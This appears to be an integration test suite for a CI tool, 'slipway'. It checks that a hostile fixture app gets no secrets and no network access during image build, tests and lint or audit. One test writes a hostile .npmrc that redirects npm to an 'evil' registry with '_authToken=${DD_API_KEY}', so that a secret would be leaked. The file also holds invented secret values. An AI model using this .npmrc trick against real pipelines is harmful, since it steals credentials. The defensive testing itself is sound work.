import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import * as fs from 'node:fs';
import * as net from 'node:net';
import * as path from 'node:path';
import type { AddressInfo } from 'node:net';
import { docker, requireDocker } from '../support/docker';
import { runCli } from '../support/cli';
import { tmpDir } from '../support/tmp';
import { copySampleApp, type AppCopy } from '../support/app-copy';
import { advisoryServer, withDependency } from '../support/advisory-server';

const untrusted = suite("app code is untrusted: build, test and analyse hand it no secret and no way to slipway's services");
const FIXTURE = path.resolve(__dirname, '../fixtures/hostile-app');
const reports = tmpDir('slipway-untrusted-');
const copies: AppCopy[] = [];
const noJenkins = { BRANCH_NAME: undefined, GIT_BRANCH: undefined, GIT_COMMIT: undefined };

/** slipway's secrets as a Jenkins job would hold them, each a value no app could guess. */
const SECRETS: Record<string, string> = {
  DD_API_KEY: 'dd-api-0f3c9a7e51b24d8e',
  DD_APP_KEY: 'dd-app-8b1e6d2f9c0a4e37',
  SLIPWAY_ADMIN_TOKEN: 'admin-token-5c2e8f1a9d3b7e60',
  SLIPWAY_FLAGS_TOKEN: 'flags-token-a47d0e9b3c1f2856',
  SLIPWAY_SMTP_PASSWORD: 'smtp-pass-93be1c7d5a0f4e28',
  REDIS_URL: 'redis://:redis-pass-6e0a2d8c4b9f1735@127.0.0.1:6379/0',
};

interface Seen {
  phase: string;
  env: Record<string, string>;
  reached: string[];
}

/** Loopback listeners standing where slipway's Redis, toggle server and proxy admin answer; each counts who got through. */
interface Services {
  ports: Record<string, number>;
  accepted: Record<string, number>;
  close(): Promise<void>;
}

async function services(names: string[]): Promise<Services> {
  const servers = new Map<string, net.Server>();
  const accepted: Record<string, number> = {};
  for (const name of names) {
    accepted[name] = 0;
    const server = net.createServer((socket) => {
      accepted[name]++;
      socket.destroy();
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    servers.set(name, server);
  }
  const ports = Object.fromEntries([...servers].map(([n, s]) => [n, (s.address() as AddressInfo).port]));
  return { ports, accepted, close: async () => void (await Promise.all([...servers.values()].map((s) => new Promise((r) => s.close(r))))) };
}

/** The sample app with the fixture's probe in its ESLint config, its image build and its test command. */
function hostileCopy(ports: Record<string, number>, app: Record<string, unknown> = {}): AppCopy {
  const copy = copySampleApp('cg-hostile');
  copies.push(copy);
  for (const f of ['probe.js', 'eslint.config.js', 'Dockerfile']) fs.copyFileSync(path.join(FIXTURE, f), path.join(copy.dir, f));
  copy.write('probe-targets.json', JSON.stringify(ports));
  const configFile = path.join(copy.dir, 'slipway.json');
  const config = JSON.parse(fs.readFileSync(configFile, 'utf8'));
  config.app = { ...config.app, testCommand: 'node probe.js test && npm test', env: { PROBE_VISIBLE: 'yes' }, ...app };
  copy.write('slipway.json', JSON.stringify(config, null, 2));
  return copy;
}

/** What the probe printed in a phase, read from slipway's log. */
function probed(stderr: string, phase: string): Seen {
  const line = stderr.split('\n').find((l) => l.includes(`PROBE ${phase} `));
  assert.ok(line, `the probe printed nothing for ${phase}:\n${stderr.slice(-2000)}`);
  return JSON.parse(Buffer.from(line!.slice(line!.indexOf(`PROBE ${phase} `) + `PROBE ${phase} `.length).trim(), 'hex').toString('utf8'));
}

function assertNoSecret(seen: Seen): void {
  const text = JSON.stringify(seen.env);
  for (const [name, value] of Object.entries(SECRETS)) {
    assert.not.ok(name in seen.env, `${seen.phase}: the app saw ${name}`);
    assert.not.ok(text.includes(value) || text.includes(value.split('@')[0].slice(-12)), `${seen.phase}: the app saw the value of ${name}`);
  }
}

untrusted.before(async () => {
  await requireDocker();
  const base = await runCli(['base-image', '--no-pull', '--app', copySampleApp('cg-base').dir]);
  assert.is(base.code, 0, base.stderr);
});

untrusted.after(async () => {
  for (const c of copies) await c.removeImages();
});

untrusted('the image build and the test container see no secret and reach nothing on the host; the sample tests still pass', async () => {
  const svc = await services(['redis', 'toggle', 'admin']);
  try {
    const app = hostileCopy(svc.ports);
    const built = await runCli(['build', '--app', app.dir], { ...noJenkins, ...SECRETS });
    assert.is(built.code, 0, built.stderr);
    const atBuild = probed(built.stderr, 'build');
    assertNoSecret(atBuild);
    assert.equal(atBuild.reached, []);

    const junit = path.join(reports, 'hostile.xml');
    const tested = await runCli(['test', '--app', app.dir, '--junit', junit, '--json'], { ...noJenkins, ...SECRETS });
    assert.is(tested.code, 0, tested.stderr);
    const atTest = probed(tested.stderr, 'test');
    assertNoSecret(atTest);
    assert.is(atTest.env.PROBE_VISIBLE, 'yes', "the app's own env (app.env) reaches its tests");
    assert.equal(atTest.reached, []);
    assert.equal(svc.accepted, { redis: 0, toggle: 0, admin: 0 });
    assert.is(tested.json().result.failed, 0);
    assert.ok(tested.json().result.passed > 100, `${tested.json().result.passed} passed`);
  } finally {
    await svc.close();
  }
});

untrusted('app.testNetwork "host" is the opt-in: then the tests reach the host, and still see no secret', async () => {
  const svc = await services(['redis', 'toggle', 'admin']);
  try {
    const app = hostileCopy(svc.ports, { testNetwork: 'host' });
    assert.is((await runCli(['build', '--app', app.dir], noJenkins)).code, 0);
    const tested = await runCli(['test', '--app', app.dir, '--junit', path.join(reports, 'host.xml')], { ...noJenkins, ...SECRETS });
    assert.is(tested.code, 0, tested.stderr);
    const seen = probed(tested.stderr, 'test');
    assertNoSecret(seen);
    assert.equal(seen.reached.sort(), ['admin', 'redis', 'toggle']);
  } finally {
    await svc.close();
  }
});

untrusted("the app's ESLint config runs without slipway's env or network; its .npmrc cannot redirect npm audit or read a secret", async () => {
  const svc = await services(['redis', 'toggle', 'admin']);
  const registry = await advisoryServer({});
  const evil = await advisoryServer({});
  try {
    const app = hostileCopy(svc.ports);
    withDependency(app);
    // npm expands ${VAR} in .npmrc: this would send DD_API_KEY to the app's registry as its token
    app.write('.npmrc', `registry=${evil.url}\n${evil.url.replace(/^http:/, '')}:_authToken=\${DD_API_KEY}\n`);
    // the caller's own npm settings, as on a Jenkins agent: a user .npmrc naming the registry
    const home = tmpDir('slipway-home-');
    fs.writeFileSync(path.join(home, '.npmrc'), `registry=${registry.url}\n`);
    const r = await runCli(['analyse', '--app', app.dir, '--report', path.join(reports, 'hostile.sarif'), '--json'], { ...SECRETS, HOME: home, npm_config_registry: undefined, npm_config_userconfig: path.join(home, '.npmrc') });
    assert.is(r.code, 0, r.stderr);
    const seen = probed(r.stderr, 'lint');
    assertNoSecret(seen);
    assert.ok(seen.env.HOME, 'the probe reports the environment it got');
    assert.equal(seen.reached, []);
    assert.equal(svc.accepted, { redis: 0, toggle: 0, admin: 0 });
    assert.is(r.json().result.lint.status, 'ran', JSON.stringify(r.json().result.lint));
    assert.is(r.json().result.audit.status, 'ran', JSON.stringify(r.json().result.audit));
    assert.is(registry.requests.length, 1, "npm audit asked the caller's registry");
    assert.is(evil.requests.length, 0, "npm audit never asked the app's registry");
  } finally {
    await svc.close();
    await registry.close();
    await evil.close();
  }
});

untrusted('no container of these runs is left behind', async () => {
  for (const c of copies) assert.is((await docker.listContainers({ all: true, filters: { label: [`slipway.app=${c.name}`] } })).length, 0, c.name);
});

untrusted.run();
